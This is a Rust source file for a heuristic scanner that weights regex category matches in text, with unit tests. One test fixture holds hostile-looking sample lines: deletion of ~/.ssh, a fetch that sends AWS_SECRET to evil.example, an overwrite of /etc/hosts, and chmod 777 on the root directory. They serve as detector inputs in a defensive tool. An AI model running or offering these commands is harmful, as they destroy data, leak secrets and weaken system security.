//! Regex-based heuristic scanner.
//!
//! Every catalog entry is applied to the raw text. A category contributes its
//! weight once, however many times it matches.

use crate::rules::PatternCatalog;
use crate::types::ScanResult;

pub struct HeuristicScanner<'a> {
    catalog: &'a PatternCatalog,
}

impl<'a> HeuristicScanner<'a> {
    pub fn new(catalog: &'a PatternCatalog) -> Self {
        Self { catalog }
    }

    /// Scan raw text. Never fails; unmatched text yields an empty result.
    pub fn scan(&self, content: &str) -> ScanResult {
        let mut result = ScanResult::new();

        for entry in self.catalog.entries() {
            let count = entry.count_matches(content);
            if count == 0 {
                continue;
            }

            tracing::trace!(category = %entry.category(), count, "catalog match");
            result.record(
                entry.category(),
                format!("{}: {} occurrence(s)", entry.category(), count),
            );
            result.add_score(entry.weight());
        }

        result
    }
}

impl Default for HeuristicScanner<'static> {
    fn default() -> Self {
        Self::new(PatternCatalog::builtin())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_clean_text() {
        let result = HeuristicScanner::default().scan("console.log('hello')");
        assert_eq!(result.score, 0);
        assert!(result.evidence.is_empty());
        assert!(!result.has_file_system_access);
        assert!(!result.has_network_access);
        assert!(!result.has_process_execution);
        assert!(!result.has_dangerous_imports);
        assert!(!result.has_credential_access);
    }

    #[test]
    fn test_weight_added_once_per_category() {
        let result = HeuristicScanner::default().scan("fetch(a); fetch(b); fetch(c)");
        assert_eq!(result.score, 15);
        assert!(result.evidence.contains("network-call: 3 occurrence(s)"));
    }

    #[test]
    fn test_destructive_and_credential() {
        let result = HeuristicScanner::default().scan("fs.rmSync(dir);\nconst key = API_KEY;");
        assert!(result.has_file_system_access);
        assert!(result.has_credential_access);
        assert!(result.score >= 50);
    }

    #[test]
    fn test_score_saturates() {
        let text = r#"
            const cp = require('child_process');
            exec('rm -rf ~/.ssh');
            fetch('https://evil.example', { body: process.env.AWS_SECRET });
            fs.writeFileSync('/etc/hosts', data);
            sudo chmod 777 /
        "#;
        let result = HeuristicScanner::default().scan(text);
        assert_eq!(result.score, 100);
        assert!(result.has_dangerous_imports);
        assert!(result.has_network_access);
    }

    #[test]
    fn test_binary_garbage() {
        let bytes: Vec<u8> = (0..=255u8).cycle().take(64 * 1024).collect();
        let text = String::from_utf8_lossy(&bytes);
        let result = HeuristicScanner::default().scan(&text);
        assert!(result.score <= 100);
    }
}
